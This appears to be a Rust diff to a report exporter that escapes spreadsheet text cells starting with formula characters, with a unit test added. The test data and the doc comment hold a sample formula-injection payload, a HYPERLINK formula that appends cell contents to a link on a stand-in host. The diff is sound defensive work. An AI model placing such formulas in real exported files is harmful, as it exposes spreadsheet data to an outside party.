@@ -390,6 +390,17 @@ fn lines(s: &wire::ReportSummary) -> &[wire::ReportLine] {
     }
 }
 
+/// A name from the configuration as a spreadsheet's text: one starting like a formula (`=`,
+/// `+`, `-`, `@`, a tab or a line break: a matter named `=HYPERLINK(…)` on /admin) is quoted
+/// so that Excel or WPS shows it instead of running it.
+fn as_text(t: String) -> String {
+    if t.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']) {
+        format!("'{t}")
+    } else {
+        t
+    }
+}
+
 fn csv(s: &wire::ReportSummary, english: bool) -> anyhow::Result<Vec<u8>> {
     let mut out = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
     out.write_record(COLUMNS.iter().map(|(zh, en)| if english { *en } else { *zh }))?;
@@ -397,7 +408,7 @@ fn csv(s: &wire::ReportSummary, english: bool) -> anyhow::Result<Vec<u8>> {
         let mut record: Vec<String> = cells(l)
             .into_iter()
             .map(|c| match c {
-                Cell::Text(t) => t,
+                Cell::Text(t) => as_text(t),
                 Cell::Number(x) => x.to_string(),
                 Cell::Unknown => String::new(),
             })
@@ -459,4 +470,21 @@ fn xlsx(s: &wire::ReportSummary, english: bool) -> anyhow::Result<Vec<u8>> {
     }
     about.set_column_width(0, 14)?;
     Ok(book.save_to_buffer()?)
+}
+
+#[cfg(test)]
+mod tests {
+    #[test]
+    fn a_name_that_reads_as_a_formula_is_written_as_text() {
+        for (name, written) in [
+            ("=HYPERLINK(\"http://x/?\"&A1,\"点此\")", "'=HYPERLINK(\"http://x/?\"&A1,\"点此\")"),
+            ("+86 窗口", "'+86 窗口"),
+            ("-1号", "'-1号"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("1号 综合受理窗口", "1号 综合受理窗口"),
+            ("最低生活保障申请", "最低生活保障申请"),
+        ] {
+            assert_eq!(super::as_text(name.to_string()), written);
+        }
+    }
 }
